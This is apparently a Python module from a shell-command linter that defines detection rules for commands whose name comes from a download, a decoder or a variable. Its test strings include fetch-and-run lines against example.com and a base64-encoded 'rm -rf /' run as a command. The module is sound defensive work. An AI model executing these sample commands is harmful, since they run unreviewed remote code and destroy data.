"""Rules about what becomes the command name (docs/engine.md#commands-and-positions, #taint)."""

from __future__ import annotations

from collections.abc import Iterator

from .._analysis import CommandSubject, NameSource
from .._model import Severity
from .._tables import Tables
from ._rule import Hit, Inspects, rule


@rule(
    id="CP001",
    name="risky-substitution-as-command",
    severity=Severity.HIGH,
    summary="The output of a download, decoder or interpreter becomes the command to run.",
    rationale=(
        "`$(curl ...)` in command position runs whatever the server (or the decoded blob) says; "
        "nothing about that command was reviewed."
    ),
    safer_alternative="Download to a file, inspect it, then run the file by name.",
    inspects=Inspects.COMPUTED_NAME,
    must_match=(
        "$(curl -s https://example.com/cmd)",
        "`wget -qO- https://example.com/c`",
        "sudo $(curl -fsSL https://example.com/c) --now",
        "FOO=1 $(echo cm0gLXJmIC8K | base64 -d)",
        "timeout 5 $(python3 -c 'print(\"ls\")')",
        "x$(curl -s u)",
    ),
    must_not_match=(
        "x=$(curl -s https://example.com)",
        "echo $(curl -s https://example.com)",
        "diff <(curl -s a) <(curl -s b)",
        "command -v $(curl -s u)",
        "$(git rev-parse --show-toplevel)/build.sh",
    ),
)
def risky_substitution_as_command(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    if subject.name_source is NameSource.RISKY_SUBSTITUTION and subject.name_evidence is not None:
        yield Hit(subject.name_evidence, "a download, decoder or interpreter's output is run as the command")


@rule(
    id="CP002",
    name="dynamic-command-name",
    severity=Severity.MEDIUM,
    summary="The command name is computed at run time.",
    rationale=(
        "`$cmd args` runs whatever the variable or substitution holds when the command runs; it was not reviewed. "
        'A name computed only in its directory (`$(which python3)`, `"$JAVA_HOME/bin/java"`) is judged as the '
        "program it names."
    ),
    safer_alternative="Spell the command name out literally.",
    inspects=Inspects.COMPUTED_NAME,
    must_match=(
        "$cmd --force",
        "${!ref} -x",
        "$a$b file",
        "$(cat .tool-path)/build.sh",
        '"$EDITOR" notes.txt',
        "$TOOLS/lint.sh",
    ),
    must_not_match=(
        "cmd=ls; $cmd -la",
        "\"$SHELL\" -c 'make test'",
        "ls -la",
        "x=$(curl -s u); echo $x",
        '"$JAVA_HOME/bin/java" -version',
        "$(which python3) -m pip list",
        '"$(git rev-parse --show-toplevel)/scripts/test.sh"',
    ),
)
def dynamic_command_name(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    if subject.name_source is NameSource.DYNAMIC and subject.name_evidence is not None:
        yield Hit(subject.name_evidence, "the command name is computed when the command runs")


@rule(
    id="TA001",
    name="tainted-variable-as-command",
    severity=Severity.HIGH,
    summary="A variable holding downloaded or decoded data is run as the command.",
    rationale="`payload=$(curl ...); $payload` is the same as running the download, one assignment removed.",
    safer_alternative="Download to a file, inspect it, then run the file by name.",
    inspects=Inspects.COMPUTED_NAME,
    must_match=(
        "payload=$(curl -s https://example.com/p); $payload",
        "c=$(echo cm0= | base64 -d)\n$c -rf /tmp/x",
        "read -r cmd < <(curl -s u); $cmd",
        "for c in $(curl -s u); do $c; done",
    ),
    must_not_match=(
        'x=$(date); echo "$x"',
        'payload=$(curl -s u); echo "$payload" > out.txt',
        "cmd=ls; $cmd",
    ),
)
def tainted_variable_as_command(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    if subject.name_source is NameSource.TAINTED and subject.name_evidence is not None:
        yield Hit(subject.name_evidence, "a variable holding downloaded or decoded data is run as the command")


COMMAND_POSITION_RULES = (risky_substitution_as_command, dynamic_command_name, tainted_variable_as_command)
